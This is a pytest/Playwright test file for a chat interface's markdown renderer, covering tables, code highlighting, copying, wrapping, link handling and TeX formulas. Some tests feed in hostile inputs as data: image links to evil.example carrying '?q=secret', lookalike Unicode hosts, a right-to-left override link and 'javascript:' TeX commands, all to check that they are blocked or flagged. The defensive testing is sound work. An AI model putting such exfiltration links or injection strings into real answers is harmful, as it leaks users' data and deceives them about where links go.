"""What a finished answer looks like and offers."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any, Final

import pytest
from playwright.sync_api import Locator, Page, expect

SHOW: Final = """text => {
  const shell = clawd.fresh();
  shell.className = 'md';
  shell.append(clawd.render(text));
}"""
ALL_OF_GFM: Final = """# One

### Three

Some **bold**, *italic*, ~~gone~~ and `code`, [a link](https://example.com/x "why"), https://example.com/y

- [ ] to do
- [x] done
  1. nested

> quoted

| a | b |
|---|--:|
| 1 | 2 |

```python
def f(x): return x
```

---

$$
\\sum_i x_i
$$

![a picture](https://pictures.example.com/p.png)
"""


def show(page: Page, text: str) -> None:
    page.evaluate(SHOW, text)


def show_alone(page: Page, text: str) -> None:
    """In place of what was shown before."""
    page.evaluate("document.querySelectorAll('.md').forEach((one) => one.remove())")
    show(page, text)


def scrolls_by_keyboard(page: Page, box: Locator) -> None:
    box.evaluate("""box => {
      globalThis.scrolled = new Promise((done) => box.addEventListener('scroll', done));
    }""")
    box.focus()
    page.keyboard.press("ArrowRight")
    page.evaluate("scrolled.then(() => null)")


@pytest.mark.parametrize("number", ["ui-40"])
def test_all_of_gfm_is_there(page: Page, number: str, axe: Callable[..., list[str]]) -> None:
    show(page, ALL_OF_GFM)
    for selector in ("h2", "h3", "strong", "em", "s", "ul ol li", "blockquote", "hr", "table td.right"):
        expect(page.locator(f".md {selector}")).to_have_count(1)
    expect(page.get_by_role("checkbox", name="To do")).to_be_disabled()
    expect(page.get_by_role("checkbox", name="Done")).to_be_checked()
    expect(page.locator(".md math")).to_have_count(1)
    assert axe(page) == []


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("number", ["ui-40"])
def test_an_answer_is_legible_in_both_themes(
    page: Page, number: str, theme: Any, axe: Callable[..., list[str]]
) -> None:
    page.emulate_media(color_scheme=theme)
    show(page, ALL_OF_GFM)
    expect(page.locator(".hl-kw").first).to_be_visible()
    assert axe(page) == []


@pytest.mark.parametrize("number", ["ui-40"])
def test_a_wide_table_scrolls_in_its_own_box_by_keyboard(page: Page, number: str) -> None:
    page.set_viewport_size({"width": 360, "height": 640})
    row = "|" + "|".join(f"column{n}" for n in range(30)) + "|"
    show(page, f"{row}\n{'|-' * 30}|\n{row}")
    table = page.get_by_role("group", name="Table")
    assert page.evaluate("document.scrollingElement.scrollWidth") <= 360
    scrolls_by_keyboard(page, table)


@pytest.mark.parametrize("number", ["ui-43"])
def test_code_names_its_language_and_is_coloured(page: Page, number: str, asked: list[str]) -> None:
    show(page, "Plain first.")
    assert not any("languages" in url for url in asked)
    show(page, "```python\ndef f(x):\n    return 'x'  # why\n```")
    block = page.locator(".code")
    expect(block.locator(".bar span")).to_have_text("python")
    expect(block.locator(".hl-kw").first).to_have_text("def")
    expect(block.locator(".hl-com")).to_have_text("# why")
    assert any("languages" in url for url in asked)


@pytest.mark.parametrize("number", ["ui-43"])
def test_an_unknown_language_stays_plain(page: Page, number: str) -> None:
    for language in ("klingon", "constructor", "__proto__", "text", ""):
        show_alone(page, f"```{language}\nif x: pass\n```\n\n```python\nif x: pass\n```")
        expect(page.locator(".code:last-child .hl-kw").first).to_be_visible()
        expect(page.locator(".code:first-child [class^=hl-]"), language).to_have_count(0)


@pytest.mark.parametrize("number", ["ui-43"])
def test_what_is_copied_is_the_code_and_nothing_else(page: Page, number: str) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    code = "<b>&amp;</b>\n\tif x:\n\n  y  \n```\n终"
    show(page, f"before\n\n````html\n{code}\n````\n\nafter")
    expect(page.locator(".code [class^=hl-]").first).to_be_visible()
    page.get_by_role("button", name="Copy").click()
    expect(page.get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == code
    expect(page.locator("p.copied")).to_have_text(code)
    expect(page.get_by_role("button", name="Copy", exact=True)).to_be_visible()


@pytest.mark.parametrize("number", ["ui-43"])
def test_a_long_line_of_code_scrolls_in_its_box_by_keyboard(page: Page, number: str) -> None:
    page.set_viewport_size({"width": 360, "height": 640})
    show(page, f"```\n{'x' * 3000}\n```")
    assert page.evaluate("document.scrollingElement.scrollWidth") <= 360
    scrolls_by_keyboard(page, page.get_by_role("group", name="Code"))


@pytest.mark.parametrize("number", ["ui-45"])
def test_pictures_are_offered_and_not_fetched(page: Page, number: str, asked: list[str]) -> None:
    show(page, "![盗取 data](https://evil.example/p.png?q=secret) ![](http://evil.example/x) ![here](/p.png)")
    show(
        page,
        "<img src=https://evil.example/i.png> [![in a link](https://evil.example/l.png)](https://a.example)",
    )
    expect(page.locator("img")).to_have_count(0)
    opens = page.get_by_role("link", name="Open image")
    expect(opens).to_have_count(2)
    expect(opens.first).to_have_attribute("href", "https://evil.example/p.png?q=secret")
    expect(opens.first).to_contain_text("(evil.example)")
    expect(page.locator(".picture").first).to_contain_text("盗取 data")
    expect(page.locator(".picture", has_text="here").locator("a")).to_have_count(0)
    expect(page.get_by_role("link", name="in a link")).to_have_attribute("href", "https://a.example")
    assert [url for url in asked if "evil" in url] == []


@pytest.mark.parametrize("number", ["ui-46"])
def test_a_link_says_where_it_goes(page: Page, number: str) -> None:
    show(page, '[words](https://example.com/a%20b/路径 "why") [mail](mailto:a@example.com)')
    link = page.get_by_role("link", name="words")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("title", "why — https://example.com/a b/路径")
    expect(page.get_by_role("link", name="mail")).to_have_attribute("title", "mailto:a@example.com")


@pytest.mark.parametrize("number", ["ui-46"])
def test_words_that_look_like_another_address_are_shown_up(page: Page, number: str) -> None:
    for words, shown in (
        ("https://bank.example/login", True),
        ("bank.example", True),
        ("www.bank.example", True),
        ("https://evil.example/x", False),
        ("www.evil.example", False),
        ("click here", False),
        ("v1.2", True),
    ):
        show_alone(page, f"[{words}](https://evil.example/x)")
        expect(page.locator(".md a"), words).to_contain_text(f"{words} (evil.example)" if shown else words)
        expect(page.locator(".md a > .host"), words).to_have_count(int(shown))


@pytest.mark.parametrize("number", ["ui-46"])
def test_a_host_in_letters_that_others_look_like_is_shown_up(page: Page, number: str) -> None:
    for letters, address, shown in (
        ("cyrillic", "https://\u0430pple.com", True),
        ("greek", "https://\u03bfpen.org", True),
        ("chinese", "https://中文.com", False),
    ):
        show_alone(page, f"{letters}: {address} there")
        expect(page.locator(".md")).to_contain_text(letters)
        expect(page.locator(".md a"), letters).to_have_count(1)
        expect(page.locator(".md a > .host"), letters).to_have_count(int(shown))


@pytest.mark.parametrize("number", ["ui-46"])
def test_a_host_in_other_letters_is_written_as_the_network_does(page: Page, number: str) -> None:
    show(page, "https://例子.中国/路径 and <https://xn--80ak6aa92e.com/>")
    chinese, disguised = page.locator(".md a").all()
    expect(chinese).to_have_attribute("href", "https://xn--fsqu00a.xn--fiqs8s/%E8%B7%AF%E5%BE%84")
    expect(chinese).to_have_text("https://例子.中国/路径")
    expect(disguised).to_have_text("https://xn--80ak6aa92e.com/")


@pytest.mark.parametrize("number", ["ui-46"])
def test_nothing_turns_around_where_a_link_goes(page: Page, number: str) -> None:
    show(page, "[words](https://evil.example/%E2%80%AEmoc.knab%E2%80%8B)")
    title = "https://evil.example/%E2%80%AEmoc.knab%E2%80%8B"
    expect(page.get_by_role("link", name="words")).to_have_attribute("title", title)


@pytest.mark.parametrize("number", ["ui-46"])
def test_other_addresses_lead_nowhere(page: Page, number: str) -> None:
    addresses = ("/logout", "docs/a.md", "#top", "//evil.example/x", "ftp://a.example", "tel:1")
    for place, address in enumerate(addresses):
        show_alone(page, f"[words {place}]({address})")
        expect(page.locator(".md")).to_contain_text(f"words {place}")
        expect(page.locator(".md [href]"), address).to_have_count(0)


@pytest.mark.parametrize("number", ["ui-48"])
def test_formulas_are_set_as_mathml_and_loaded_when_needed(page: Page, number: str, asked: list[str]) -> None:
    show(page, "价格是$5到$10之间")
    assert not any("katex" in url for url in asked)
    show(page, "公式 \\(a_1^2\\) 和 $x_1$ 与\n\n\\[ E=mc^2 \\]\n\n$$\n\\sum_i x_i\n$$")
    expect(page.locator(".md math")).to_have_count(4)
    expect(page.locator(".md .tex.block")).to_have_count(2)
    assert page.locator(".md [style]").count() == 0
    assert page.locator(".md annotation").count() == 0


@pytest.mark.parametrize("number", ["ui-48"])
def test_a_formula_that_cannot_be_read_shows_its_source(page: Page, number: str) -> None:
    for tex in ("\\frac{1}{", "\\notacommand x", "}{", "\\begin{nothing}x\\end{nothing}"):
        show_alone(page, f"good $x_1$ bad \\({tex}\\)")
        expect(page.locator(".md")).to_contain_text(f"\\({tex}\\)")
        expect(page.locator(".md math"), tex).to_have_count(1)
        assert page.locator(".md [href], .md [style]").count() == 0, tex


@pytest.mark.parametrize("number", ["ui-48"])
def test_commands_that_reach_out_of_a_formula_do_nothing(page: Page, number: str) -> None:
    for tex in (
        "\\href{javascript:alert(1)}{x}",
        "\\url{https://a.example}",
        "\\includegraphics{https://a.example/p.png}",
        "\\htmlStyle{color:red}{x}",
        "\\htmlId{box}{x}",
        "\\htmlData{a=b}{x}",
        "\\htmlClass{btn}{x}",
    ):
        show_alone(page, f"\\({tex}\\)")
        expect(page.locator(".md math"), tex).to_have_count(1)
        assert page.locator(".md :is([href], [src], [style], [id], math [class], img, a)").count() == 0, tex


@pytest.mark.parametrize("number", ["ui-48"])
def test_formulas_bring_no_styles(page: Page, number: str) -> None:
    for tex in (
        "\\boxed{x}",
        "\\color{red}{x}",
        "\\rule{1em}{2em}",
        "\\cancel{x}",
        "\\fcolorbox{red}{blue}{x}",
    ):
        show_alone(page, f"\\({tex}\\)")
        expect(page.locator(".md math"), tex).to_have_count(1)
        assert page.locator(".md [style]").count() == 0, tex


@pytest.mark.parametrize("number", ["ui-50"])
def test_endless_words_wrap(page: Page, number: str) -> None:
    page.set_viewport_size({"width": 360, "height": 640})
    show(page, f"{'x' * 2000} https://example.com/{'y' * 500} `{'z' * 500}`")
    show(page, f"- {'w' * 500}\n\n> {'v' * 500}")
    show(page, f"# {'u' * 300}\n\n$${'+x_1' * 100}$$")
    assert page.evaluate("document.scrollingElement.scrollWidth") <= 360


@pytest.mark.parametrize("number", ["ui-50"])
def test_code_of_more_than_fifty_thousand_characters_is_not_coloured(page: Page, number: str) -> None:
    long = "if x: pass\n" * 5000
    show(page, f"```python\n{long}```\n\n```python\nif x: pass\n```")
    expect(page.locator(".code").last.locator(".hl-kw").first).to_be_attached()
    expect(page.locator(".code").first.locator(".hl-kw")).to_have_count(0)


@pytest.mark.parametrize("number", ["ui-56"])
def test_han_and_latin_keep_their_distance(page: Page, number: str) -> None:
    show(page, "使用Python写code\n\n```\n使用x\n```")
    spacing = "e => getComputedStyle(e).getPropertyValue('text-autospace')"
    assert page.locator(".md > p").evaluate(spacing) == "normal"
    assert page.locator(".md pre").evaluate(spacing) == "no-autospace"
